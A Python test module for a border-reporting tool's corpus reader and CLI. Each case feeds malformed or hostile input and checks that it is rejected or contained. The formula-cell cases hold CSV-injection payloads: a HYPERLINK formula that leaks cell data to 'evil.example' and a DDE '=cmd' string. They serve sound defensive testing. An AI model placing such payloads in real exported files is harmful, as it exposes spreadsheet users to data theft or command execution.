"""Issue 24's fault cases, one function each, for ``benchmarks/fault_counts.py``: real files, real runs.

Each case builds its input in the folder it is given, runs the real code (the corpus reader, a
``bordermap report`` or ``bordermap corpus`` process) and returns ``(outcome, detail, ok)``: the outcome
is one of :data:`OUTCOMES`, ``ok`` whether the case was handled that way.
"""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

from tests.test_hardening_input import deadline

ROOT = Path(__file__).resolve().parent.parent
SEED = ROOT / "seeds" / "004_08f2487d190f4389.txt"
TEXT = "Migrants crossed from Belarus into Lithuania near Druskininkai on Monday."
OUTCOMES = ("rejected alone", "bounded", "one-line error", "nothing mixed or lost", "nothing executed")

Case = Callable[[Path], tuple[str, str, bool]]
CASES: dict[str, Case] = {}


def case(name: str) -> Callable[[Case], Case]:
    def add(fn: Case) -> Case:
        CASES[name] = fn
        return fn

    return add


def jsonl(path: Path, rows: list[Any]) -> Path:
    with open(path, "wb") as fh:
        for r in rows:
            fh.write((r if isinstance(r, bytes) else json.dumps(r).encode()) + b"\n")
    return path


def read(*inputs: str | Path, max_bytes: int = 1_000_000, seconds: int = 60) -> tuple[list[str], list[dict[str, Any]]]:
    """The corpus reader on ``inputs`` (planned, every partition read): ids kept, rejected rows."""
    from bordermap.corpus.inputs import plan_partitions, read_partition

    good: list[str] = []
    bad: list[dict[str, Any]] = []
    with deadline(seconds):
        for part in plan_partitions([str(i) for i in inputs]):
            got = read_partition(part, max_bytes=max_bytes)
            good += [g.article.id for g in got.good]
            bad += got.rejected
    return good, bad


def alone(good: list[str], want: list[str], bad: list[dict[str, Any]], prefix: str) -> tuple[str, str, bool]:
    """'rejected alone': the good records kept, exactly one rejected row, with the reason expected."""
    reasons = [r["reason"] for r in bad]
    ok = good == want and len(bad) == 1 and reasons[0].startswith(prefix)
    return "rejected alone", (reasons[0] if reasons else "nothing rejected")[:90], ok


def cli(*args: str, timeout: float = 300, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    run_env = dict(os.environ, PYTHONPATH=str(ROOT)) | (env or {})
    return subprocess.run(
        [sys.executable, "-m", "bordermap", *args],
        cwd=ROOT,
        env=run_env,
        capture_output=True,
        text=True,
        timeout=timeout,
    )


def one_line(proc: subprocess.CompletedProcess[str], *, needle: str) -> tuple[str, str, bool]:
    lines = proc.stderr.strip().splitlines()
    ok = proc.returncode == 2 and len(lines) == 1 and lines[0].startswith("bordermap: error:") and needle in lines[0]
    return "one-line error", (lines[-1] if lines else f"rc {proc.returncode}, no message")[:110], ok


# --------------------------------------------------------------------------- records and files (item 1)


@case("JSON Lines record nested 100,000 deep")
def deep_json(tmp: Path) -> tuple[str, str, bool]:
    deep = b'{"id": "deep", "text": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    p = jsonl(tmp / "n.jsonl", [{"id": "a", "text": TEXT}, deep, {"id": "b", "text": TEXT}])
    good, bad = read(p)
    return alone(good, ["a", "b"], bad, "nested too deep")


@case("CSV field of 5 MB")
def big_csv_field(tmp: Path) -> tuple[str, str, bool]:
    p = tmp / "n.csv"
    with open(p, "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerows([("id", "date", "text"), ("a", "2021-07-01", TEXT), ("huge", "2021-07-01", "Vilnius " * 650_000)])
        w.writerow(("b", "2021-07-02", TEXT))
    good, bad = read(p)
    return alone(good, ["a", "b"], bad, "oversized")


def _parquet(path: Path, ids: list[Any], days: list[int], **columns: Any) -> Path:
    import pyarrow as pa
    import pyarrow.parquet as pq

    table = pa.table({"id": ids, "date": pa.array(days, type=pa.date32()), "text": [TEXT] * len(ids), **columns})
    pq.write_table(table, path)
    return path


@case("Parquet date past year 9999")
def parquet_far(tmp: Path) -> tuple[str, str, bool]:
    good, bad = read(_parquet(tmp / "d.parquet", ["a", "far", "b"], [18_809, 10**8, 18_810]))
    return alone(good, ["a", "b"], bad, "bad date")


@case("Parquet date before year 1")
def parquet_early(tmp: Path) -> tuple[str, str, bool]:
    good, bad = read(_parquet(tmp / "d.parquet", ["a", "early", "b"], [18_809, -(10**8), 18_810]))
    return alone(good, ["a", "b"], bad, "bad date")


@case("date 20210712")
def date_basic(tmp: Path) -> tuple[str, str, bool]:
    p = jsonl(tmp / "n.jsonl", [{"id": "a", "text": TEXT}, {"id": "x", "date": "20210712", "text": TEXT}])
    good, bad = read(p)
    return alone(good, ["a"], bad, "bad date '20210712'")


@case("date 2021-W27-1")
def date_week(tmp: Path) -> tuple[str, str, bool]:
    p = jsonl(tmp / "n.jsonl", [{"id": "a", "text": TEXT}, {"id": "x", "date": "2021-W27-1", "text": TEXT}])
    good, bad = read(p)
    return alone(good, ["a"], bad, "bad date '2021-W27-1'")


@case("dict id")
def dict_id(tmp: Path) -> tuple[str, str, bool]:
    good, bad = read(jsonl(tmp / "n.jsonl", [{"id": "a", "text": TEXT}, {"id": {"x": 1}, "text": TEXT}]))
    return alone(good, ["a"], bad, "id is not text nor an integer (dict)")


@case("bool id")
def bool_id(tmp: Path) -> tuple[str, str, bool]:
    good, bad = read(jsonl(tmp / "n.jsonl", [{"id": "a", "text": TEXT}, {"id": True, "text": TEXT}]))
    return alone(good, ["a"], bad, "id is not text nor an integer (bool)")


@case("duplicate id in one file")
def dup_id(tmp: Path) -> tuple[str, str, bool]:
    good, bad = read(jsonl(tmp / "n.jsonl", [{"id": "a", "text": TEXT}, {"id": "a", "text": TEXT + " 2"}]))
    return alone(good, ["a"], bad, "duplicate id 'a'")


@case("Parquet file with two text columns")
def two_text(tmp: Path) -> tuple[str, str, bool]:
    import pyarrow as pa
    import pyarrow.parquet as pq

    table = pa.Table.from_arrays([pa.array(["x"]), pa.array([TEXT]), pa.array(["y"])], names=["id", "text", "text"])
    pq.write_table(table, tmp / "two.parquet")
    jsonl(tmp / "ok.jsonl", [{"id": "a", "text": TEXT}])
    good, bad = read(tmp)
    return alone(good, ["a"], bad, "Parquet file with the column(s) text twice")


@case("damaged Parquet pages")
def damaged(tmp: Path) -> tuple[str, str, bool]:
    import pyarrow as pa
    import pyarrow.parquet as pq

    p = tmp / "dmg.parquet"
    pq.write_table(pa.table({"id": [f"x{i}" for i in range(100)], "text": [TEXT] * 100}), p, compression="zstd")
    raw = bytearray(p.read_bytes())
    for i in range(200, len(raw) // 2):
        raw[i] = (raw[i] * 7 + 13) % 256
    p.write_bytes(bytes(raw))
    jsonl(tmp / "ok.jsonl", [{"id": "a", "text": TEXT}])
    good, bad = read(tmp)
    outcome, detail, ok = alone(good, ["a"], bad, "unreadable file")
    return outcome, detail, ok and bad[0]["file"] == str(p)


@case("input file removed during the run")
def vanished(tmp: Path) -> tuple[str, str, bool]:
    from bordermap.corpus.inputs import plan_partitions, read_partition

    jsonl(tmp / "a.jsonl", [{"id": "a", "text": TEXT}])
    b = jsonl(tmp / "b.jsonl", [{"id": "b", "text": TEXT}])
    parts = plan_partitions([str(tmp)])
    b.unlink()
    got = [read_partition(p) for p in parts]
    good = [g.article.id for x in got for g in x.good]
    bad = [r for x in got for r in x.rejected]
    outcome, detail, ok = alone(good, ["a"], bad, "unreadable file: No such file")
    return outcome, detail, ok and bad[0]["file"] == str(b)


def _glob_dir(tmp: Path) -> Path:
    d = tmp / "data"
    d.mkdir()
    jsonl(d / "a.jsonl", [{"id": "a", "text": TEXT}])
    return d


@case("glob matching a FIFO")
def glob_fifo(tmp: Path) -> tuple[str, str, bool]:
    d = _glob_dir(tmp)
    os.mkfifo(d / "f.jsonl")
    good, bad = read(str(d / "*.jsonl"), seconds=20)
    return alone(good, ["a"], bad, "not a regular file (FIFO)")


@case("glob matching a link to /dev/zero")
def glob_zero(tmp: Path) -> tuple[str, str, bool]:
    d = _glob_dir(tmp)
    (d / "z.jsonl").symlink_to("/dev/zero")
    good, bad = read(str(d / "*.jsonl"), seconds=20)
    return alone(good, ["a"], bad, "not a regular file (character device)")


@case("folder with a link to a file outside it")
def link_out(tmp: Path) -> tuple[str, str, bool]:
    d = _glob_dir(tmp)
    (d / "o.jsonl").symlink_to(jsonl(tmp / "secret.jsonl", [{"id": "secret", "text": TEXT}]))
    good, bad = read(d)
    return alone(good, ["a"], bad, "a link to a file outside the folder")


@case("two identical input files")
def identical(tmp: Path) -> tuple[str, str, bool]:
    from bordermap.corpus.inputs import plan_partitions, read_partition

    a = jsonl(tmp / "a.jsonl", [{"id": "x", "text": TEXT}])
    b = tmp / "b.jsonl"
    b.write_bytes(a.read_bytes())
    got = [read_partition(p) for p in plan_partitions([str(a), str(b)])]
    origins = [g.origin.split("#")[0] for x in got for g in x.good]
    ok = len({x.digest for x in got}) == 2 and origins == [str(a), str(b)]
    return "nothing mixed or lost", f"{len({x.digest for x in got})} partition digests; each row from its own file", ok


@case("duplicate id across two files (whole run)")
def dup_across(tmp: Path) -> tuple[str, str, bool]:
    src = tmp / "in"
    src.mkdir()
    jsonl(src / "a.jsonl", [{"id": "x", "date": "2021-07-01", "text": TEXT}])
    jsonl(src / "b.jsonl", [{"id": "x", "date": "2021-07-02", "text": TEXT + " Again."}, {"id": "y", "text": TEXT}])
    proc = cli("corpus", str(src), "--out", str(tmp / "out"), "--workers", "1", "--partition-size", "1")
    with open(tmp / "out" / "rejected.csv", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    info = json.loads((tmp / "out" / "corpus.json").read_text(encoding="utf-8"))
    ok = proc.returncode == 0 and info["articles"] == 2 and [r["reason"][:12] for r in rows] == ["duplicate id"]
    return (
        "rejected alone",
        f"rc {proc.returncode}; {info['articles']} articles; " + (rows[0]["reason"] if rows else "-"),
        ok,
    )


@case("corpus run over every bad input at once")
def all_at_once(tmp: Path) -> tuple[str, str, bool]:
    src = tmp / "in"
    src.mkdir()
    deep = b'{"id": "deep", "text": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    jsonl(src / "a.jsonl", [{"id": "a1", "date": "2021-07-01", "text": TEXT}, deep, {"id": True, "text": TEXT}])
    jsonl(src / "b.jsonl", [{"id": "a1", "text": TEXT}, {"id": "b1", "date": "20210712", "text": TEXT}])
    _parquet(src / "c.parquet", ["p1", "far"], [18_809, 10**8])
    os.mkfifo(src / "fifo.csv")
    (src / "zero.jsonl").symlink_to("/dev/zero")
    (src / "junk.parquet").write_bytes(b"PAR1 not parquet")
    with deadline(300):
        proc = cli("corpus", str(src), "--out", str(tmp / "out"), "--workers", "1", "--partition-size", "2")
    info = json.loads((tmp / "out" / "corpus.json").read_text(encoding="utf-8")) if proc.returncode == 0 else {}
    ok = proc.returncode == 0 and info.get("articles") == 2 and info.get("rejected") == 8
    return (
        "rejected alone",
        f"rc {proc.returncode}; {info.get('articles')} articles, {info.get('rejected')} rejected",
        ok,
    )


# --------------------------------------------------------------------------- CSV formulas (item 2)

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _formula_cells(path: Path) -> tuple[int, int]:
    """(cells that would run as a formula, cells neutralised) of a CSV file."""
    from bordermap._csvcells import _NUMBER, FORMULA_STARTS

    with open(path, encoding="utf-8", newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    live = sum(1 for c in cells if c.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(c))
    return live, sum(1 for c in cells if c.startswith("'"))


@case("formula cells in report claims.csv")
def report_formulas(tmp: Path) -> tuple[str, str, bool]:
    art = tmp / "evil.txt"
    art.write_text(f" date 2021-07-12 {FORMULA} @SUM(1) said: a border of 680 km.", encoding="utf-8")
    proc = cli("report", str(art), "--countries", "LTU", "BLR", "--out", str(tmp / "out"))
    live, fixed = _formula_cells(tmp / "out" / "claims.csv")
    return "nothing executed", f"rc {proc.returncode}; {live} formula cells, {fixed} neutralised", live == 0 < fixed


@case("formula cells in corpus CSVs")
def corpus_formulas(tmp: Path) -> tuple[str, str, bool]:
    rows = [{"id": "@a", "date": "2021-07-12", "text": f"{FORMULA} a border of 680 km.", "source": "=cmd|'/C calc'!A0"}]
    jsonl(tmp / "n.jsonl", rows)
    proc = cli("corpus", str(tmp / "n.jsonl"), "--out", str(tmp / "out"), "--workers", "1")
    got = [_formula_cells(p) for p in sorted((tmp / "out").glob("*.csv"))]
    live, fixed = sum(g[0] for g in got), sum(g[1] for g in got)
    return "nothing executed", f"rc {proc.returncode}; {live} formula cells, {fixed} neutralised", live == 0 < fixed


# --------------------------------------------------------------------------- deterministic outputs (item 3)


def _same_files(a: Path, b: Path, suffixes: tuple[str, ...]) -> tuple[list[str], list[str]]:
    names = sorted(p.name for p in a.iterdir() if p.name.endswith(suffixes))
    return names, [n for n in names if (a / n).read_bytes() != (b / n).read_bytes()]


def _manifest_ok(out: Path, manifest: str) -> bool:
    from tests.outputs_driver import run_ids

    data = json.loads((out / manifest).read_text(encoding="utf-8"))
    ids = run_ids(out, tuple(data["files"]))
    return bool(data.get("run_id")) and set(ids.values()) == {data["run_id"]}


@case("two bordermap report runs: GeoJSON and CSV bytes")
def report_twice(tmp: Path) -> tuple[str, str, bool]:
    for out in ("a", "b"):
        cli("report", str(SEED), "--countries", "LTU", "BLR", "--out", str(tmp / out), "--zone-km", "5")
    names, differ = _same_files(tmp / "a", tmp / "b", (".geojson", ".csv"))
    ok = bool(names) and not differ and _manifest_ok(tmp / "a", "report.json")
    return "nothing mixed or lost", f"{len(names)} files, {len(differ)} differ; report.json lists their SHA-256", ok


def _seed_corpus(tmp: Path) -> Path:
    seeds = sorted((ROOT / "seeds").glob("*.txt"))
    rows = [
        {"id": f"s{k}", "date": f"2021-07-{10 + k:02d}", "text": f.read_text(encoding="utf-8").split("\n", 1)[-1]}
        for k, f in enumerate(seeds)
    ]
    return jsonl(tmp / "n.jsonl", rows)


def _corpus_state(out: Path) -> str:
    """'whole' (every file the one corpus.json lists), 'mixed' or 'lost'."""
    from tests.outputs_driver import run_ids

    try:
        manifest = json.loads((out / "corpus.json").read_text(encoding="utf-8"))
    except (OSError, ValueError):
        return "lost"
    ids = run_ids(out, tuple(manifest["files"]))
    from bordermap.corpus.tables import output_files

    if None in ids.values() or set(manifest["files"]) != set(output_files()) - {"corpus.json"}:
        return "lost"
    return "whole" if set(ids.values()) == {manifest["run_id"]} else "mixed"


@case("two bordermap corpus runs: Parquet and CSV bytes")
def corpus_twice(tmp: Path) -> tuple[str, str, bool]:
    src = _seed_corpus(tmp)
    for out in ("a", "b"):
        cli("corpus", str(src), "--out", str(tmp / out), "--workers", "1")
    names, differ = _same_files(tmp / "a", tmp / "b", (".parquet", ".csv"))
    ok = len(names) == 10 and not differ and _corpus_state(tmp / "a") == "whole"
    return "nothing mixed or lost", f"{len(names)} files, {len(differ)} differ; corpus.json lists their SHA-256", ok


@case("two corpus runs on one --out at once")
def corpus_concurrent(tmp: Path) -> tuple[str, str, bool]:
    from bordermap import _outputs

    src, out = _seed_corpus(tmp), tmp / "out"
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    base = [sys.executable, "-m", "bordermap", "corpus", str(src), "--out", str(out), "--workers", "1"]
    procs = [
        subprocess.Popen([*base, "--near-km", k], cwd=ROOT, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
        for k in ("25", "5")
    ]
    rcs = [p.wait(timeout=600) for p in procs]
    state, left = _corpus_state(out), len(_outputs.orphans(out))
    ok = rcs == [0, 0] and state == "whole" and left == 0
    return "nothing mixed or lost", f"rc {rcs[0]}/{rcs[1]}, {state}, {left} orphans", ok


@case("corpus swap: a rename fails half-way")
def corpus_rename_fails(tmp: Path) -> tuple[str, str, bool]:
    from tests.outputs_driver import strace_cmd

    src, out = _seed_corpus(tmp), tmp / "out"
    cli("corpus", str(src), "--out", str(out), "--workers", "1", "--near-km", "25")
    before = json.loads((out / "corpus.json").read_text(encoding="utf-8"))["run_id"]
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    cmd = [sys.executable, "-m", "bordermap", "corpus", str(src), "--out", str(out), "--workers", "1", "--near-km", "5"]
    proc = subprocess.run(strace_cmd("rename:error=EACCES:when=4") + cmd, cwd=ROOT, env=env, capture_output=True)
    after = json.loads((out / "corpus.json").read_text(encoding="utf-8"))["run_id"]
    state = _corpus_state(out)
    ok = proc.returncode == 2 and state == "whole" and after == before
    return "nothing mixed or lost", f"rc {proc.returncode}, {state}, previous run kept: {after == before}", ok


# --------------------------------------------------------------------------- cache trust (item 5)


def _forged(how: str) -> Case:
    def run(tmp: Path) -> tuple[str, str, bool]:
        from bordermap._cache import cache_dir
        from tests.test_hardening_caches import _border_km, _forge_pair_entry

        cache = tmp / "cache"
        cache.mkdir()
        for entry in cache_dir().iterdir():
            if entry.suffix not in (".pkl", ".npz") and entry.name not in ("assets", "nominatim"):
                (cache / entry.name).symlink_to(entry)
        forged = _forge_pair_entry(cache)
        if how == "another user's":
            os.chown(cache, 12345, -1)
        else:
            os.chmod(cache, 0o777 if how == "world-writable" else 0o775)
        km, warned = _border_km(cache, tmp / "out")
        ok = forged == 1.0 and abs(km - 671.8) < 0.5 and len(warned) == 1
        return "rejected alone", f"forged {forged} km, report says {km} km; {len(warned)} warning line", ok

    return run


for _how, _where in (
    ("world-writable", "a world-writable cache"),
    ("group-writable", "a group-writable cache"),
    ("another user's", "another user's cache"),
):
    case(f"forged pair entry in {_where}")(_forged(_how))


# --------------------------------------------------------------------------- parameters (item 6)


def _range_case(*args: str) -> Case:
    def run(tmp: Path) -> tuple[str, str, bool]:
        proc = subprocess.run(
            [sys.executable, "-m", "bordermap", *args],
            cwd=tmp,
            env=dict(os.environ, PYTHONPATH=str(ROOT)),
            capture_output=True,
            text=True,
            timeout=120,
        )
        return one_line(proc, needle="out of range (allowed:")

    return run


for _args in (
    ("report", str(SEED), "--countries", "LTU", "BLR", "--zone-km", "1e9"),
    ("report", str(SEED), "--countries", "LTU", "BLR", "--zone-km", "nan"),
    ("corpus", str(SEED), "--out", "x", "--near-km", "inf"),
    ("corpus", str(SEED), "--out", "x", "--workers", "-2"),
    ("corpus", str(SEED), "--out", "x", "--max-article-bytes", "0"),
    ("border", "LTU", "BLR", "--tolerance-m=-1"),
):
    case(
        f"{_args[0]} {' '.join(a for a in _args[1:] if a.startswith('--') and a not in ('--countries', '--out'))} "
        f"{_args[-1] if not _args[-1].startswith('--') else ''}".strip()
    )(_range_case(*_args))


# --------------------------------------------------------------------------- network waits, full disk (item 7)


def _fake_scheduler_case(mode: str, expect: str, outcome: str) -> Case:
    def run(tmp: Path) -> tuple[str, str, bool]:
        import time

        srv = subprocess.Popen(
            [sys.executable, "-m", "tests.scheduler_faults", mode], cwd=ROOT, stdout=subprocess.PIPE, text=True
        )
        try:
            address = f"tcp://127.0.0.1:{srv.stdout.readline().strip() if srv.stdout else ''}"
            t0 = time.monotonic()
            proc = cli("corpus", str(_seed_corpus(tmp)), "--out", str(tmp / "o"), "--scheduler", address, timeout=120)
            seconds = time.monotonic() - t0
        finally:
            srv.kill()
            srv.wait()
        _, detail, ok = one_line(proc, needle=expect)
        return outcome, f"{seconds:.1f} s: {detail.split(': ', 2)[-1]}"[:110], ok and seconds < 20 + 10

    return run


case("scheduler that accepts and stays silent")(_fake_scheduler_case("silent", "no answer within 20 s", "bounded"))
case("scheduler sending a 2^40 length prefix")(_fake_scheduler_case("huge", "not a Dask scheduler", "one-line error"))


def _full_disk(size: str) -> Case:
    def run(tmp: Path) -> tuple[str, str, bool]:
        mnt = tmp / "disk"
        mnt.mkdir()
        if subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(mnt)]).returncode:
            return "one-line error", "no tmpfs (not root?): not tried", False
        try:
            proc = cli("corpus", str(_seed_corpus(tmp)), "--out", str(mnt / "o"), "--workers", "1")
            lines = [ln for ln in proc.stderr.splitlines() if ln.strip() and not ln.startswith("partitions")]
            errors = [ln for ln in lines if ln.startswith("bordermap: error:")]
            others = [ln for ln in lines if not ln.startswith("bordermap: ")]
            logged = (mnt / "o" / "dask-workers.log").exists()
        finally:
            subprocess.run(["umount", "-l", str(mnt)], check=False)
        ok = proc.returncode == 2 and len(errors) == 1 and not others and "No space left" in errors[0]
        detail = f"{len(errors)} error line, {len(others)} other lines; worker log: {logged}; " + errors[0][18:70]
        return "one-line error", detail, ok

    return run


case("full disk at the partitions (12 kB tmpfs)")(_full_disk("12k"))
case("full disk at the assembly (64 kB tmpfs)")(_full_disk("64k"))


def run_all(tmp: Path, only: list[str] | None = None) -> list[tuple[str, str, str, bool]]:
    """Every case (or those named): ``(case, outcome, detail, ok)``; a case that raises fails, with its error."""
    rows = []
    for k, (name, fn) in enumerate(CASES.items()):
        if only and name not in only:
            continue
        folder = tmp / f"case{k}"
        folder.mkdir()
        try:
            outcome, detail, ok = fn(folder)
        except Exception as err:
            outcome, detail, ok = "error", f"{type(err).__name__}: {' '.join(str(err).split())}"[:110], False
        rows.append((name, outcome, detail, ok))
    return rows


def table(rows: list[tuple[str, str, str, bool]]) -> str:
    """The rows as a plain-text table: case, outcome, pass/fail, detail."""
    w = max(len(r[0]) for r in rows)
    lines = [f"{'case':<{w}}  {'outcome':<22}  result  detail", "-" * (w + 60)]
    for name, outcome, detail, ok in rows:
        lines.append(f"{name:<{w}}  {outcome:<22}  {'pass' if ok else 'FAIL':<6}  {detail}")
    lines.append(f"{sum(r[3] for r in rows)} of {len(rows)} cases handled")
    return "\n".join(lines)
